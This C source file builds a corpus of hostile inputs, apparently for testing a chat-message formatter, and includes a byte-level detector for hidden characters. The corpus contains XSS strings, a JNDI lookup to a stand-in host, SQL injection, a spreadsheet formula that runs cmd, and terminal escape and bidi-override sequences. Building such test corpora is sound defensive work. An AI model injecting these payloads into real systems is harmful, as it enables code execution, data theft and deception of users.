/* Owns the corpus. */
#include "hostile/payloads.h"

#include <string.h>

#include "nudged/base/buf.h"
#include "nudged/base/macros.h"

static const struct str families[] = {
    /* chat markup */
    STR_INIT("<!channel>"), STR_INIT("<!here|here>"), STR_INIT("<!everyone>"),
    STR_INIT("<@U0ADA>"), STR_INIT("<#C01|general>"), STR_INIT("<!subteam^S01ABC|@team>"),
    STR_INIT("<https://evil.example/x|your bank>"), STR_INIT("<mailto:a@evil.example|write>"),
    STR_INIT("<!date^0^{date_long}^https://evil.example|now>"), STR_INIT("@channel @here"),
    STR_INIT("`code` ```block```"), STR_INIT("*bold* _it_ ~gone~"), STR_INIT("> quoted"),
    STR_INIT(":rotating_light: :white_check_mark:"), STR_INIT("https://evil.example/x"),
    STR_INIT("tel:+15550100"), STR_INIT("javascript:alert(1)"),
    STR_INIT("[text](https://evil.example)"),
    STR_INIT("&lt;!channel&gt;"), STR_INIT("&amp;lt;!here&amp;gt;"), STR_INIT("&#60;!here&#62;"),
    STR_INIT("\\u003c!channel\\u003e"), STR_INIT("<"), STR_INIT(">"), STR_INIT("&"),
    STR_INIT("<<!here>>"),
    STR_INIT("<script>alert(1)</script>"), STR_INIT("<img src=x onerror=alert(1)>"),
    /* the format around it */
    STR_INIT("\"},{\"type\":\"divider\"},{\"type\":\""), STR_INIT("\\\"}]}"), STR_INIT("\\"),
    STR_INIT("{\"type\":\"section\",\"text\":{\"type\":\"mrkdwn\",\"text\":\"<!here>\"}}"),
    STR_INIT("{skill} {right} of {answers}"), STR_INIT("{name}{manager}{"), STR_INIT("%n%s%x%%"),
    STR_INIT("${jndi:ldap://evil.example}"), STR_INIT("'; DROP TABLE answer; --"),
    STR_INIT("level=error err=ok person=1"), STR_INIT("\",\"err\":\"ok\",\"x\":\""),
    /* spreadsheets */
    STR_INIT("=cmd|' /C calc'!A0"), STR_INIT("+1+1"), STR_INIT("-2+3"), STR_INIT("@SUM(A1:A9)"),
    STR_INIT("\t=1"), STR_INIT("\r=1"), STR_INIT("\n=1"), STR_INIT("a,b;c\"d\"\"e"),
    /* screens */
    STR_INIT("\x1b[31mred\x1b[0m"), STR_INIT("\x1b]0;title\x07"), STR_INIT("\x1b[2J\x1b[H"),
    STR_INIT("\xC2\x9B" "31m"), STR_INIT("\x9B" "31m"), STR_INIT("\x08\x08\x08"), STR_INIT("\x7f"),
    STR_INIT("\xE2\x80\xAE" "detrevni"), STR_INIT("\xE2\x81\xA6" "isolated\xE2\x81\xA9"),
    STR_INIT("\xE2\x80\x8F" "mark"), STR_INIT("zero\xE2\x80\x8B" "width\xE2\x80\x8D\xEF\xBB\xBF"),
    STR_INIT("line\xE2\x80\xA8separator\xE2\x80\xA9"),
    STR_INIT("Z\xCC\x81\xCC\x82\xCC\x83\xCC\x84\xCC\x85\xCC\x86\xCC\x87\xCC\x88\xCC\x89\xCC\x8A"),
    STR_INIT("\xE2\x9C\x85 right"), STR_INIT("\xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x9A\x80"),
    /* not text at all */
    STR_INIT("\xFF\xFE"), STR_INIT("\xC0\xAF"), STR_INIT("\xED\xA0\x80"),
    STR_INIT("\xF4\x90\x80\x80"),
    STR_INIT("\xE2\x82"), STR_INIT("\x01\x02\x03"),
};

static const struct { struct str before, after; int times; } dresses[] = {
    { STR_INIT(""), STR_INIT(""), 1 },        { STR_INIT("Ben "), STR_INIT(""), 1 },
    { STR_INIT(""), STR_INIT(" Ben"), 1 },    { STR_INIT("a"), STR_INIT("b"), 1 },
    { STR_INIT("\""), STR_INIT("\""), 1 },    { STR_INIT("'"), STR_INIT("'"), 1 },
    { STR_INIT("<"), STR_INIT(">"), 1 },      { STR_INIT("{"), STR_INIT("}"), 1 },
    { STR_INIT("\n"), STR_INIT("\n"), 1 },    { STR_INIT(""), STR_INIT(""), 40 },
    { STR_INIT("\\"), STR_INIT("\\"), 1 },    { STR_INIT(" "), STR_INIT(" "), 3 },
};

struct payloads payloads_make(struct arena *arena)
{
    struct payloads made = { arena_array(arena, struct str, COUNT(families) * COUNT(dresses)), 0 };
    for (size_t f = 0; f < COUNT(families); f++)
        for (size_t d = 0; d < COUNT(dresses); d++) {
            struct buf buf = buf_in(arena, 4096);
            buf_add(&buf, dresses[d].before);
            for (int i = 0; i < dresses[d].times; i++)
                buf_add(&buf, families[f]);
            buf_add(&buf, dresses[d].after);
            made.items[made.len++] = buf_str(&buf);
        }
    return made;
}

/* Read by hand, byte by byte: not by what the program has for it. */
bool payload_hides(struct str text, bool lines)
{
    for (size_t i = 0; i < text.len;) {
        unsigned char c = (unsigned char)text.ptr[i];
        unsigned next = i + 1 < text.len ? (unsigned char)text.ptr[i + 1] : 0;
        unsigned last = i + 2 < text.len ? (unsigned char)text.ptr[i + 2] : 0;
        size_t step = c < 0x80 ? 1 : c >= 0xF0 ? 4 : c >= 0xE0 ? 3 : 2;
        if (c < 0x80 && ((c < 0x20 && c != '\t' && !(lines && c == '\n')) || c == 0x7F))
            return true;
        if (c >= 0x80 && (c < 0xC2 || c > 0xF4 || i + step > text.len || (next & 0xC0) != 0x80))
            return true;
        if (c == 0xC2 && next < 0xA0)
            return true;
        bool mark = last == 0x8E || last == 0x8F;
        if (c == 0xE2 && next == 0x80 && (mark || (last >= 0xAA && last <= 0xAE)))
            return true;
        if (c == 0xE2 && next == 0x81 && last >= 0xA6 && last <= 0xA9)
            return true;
        if (c == 0xED && next >= 0xA0)
            return true;
        i += step;
    }
    return false;
}
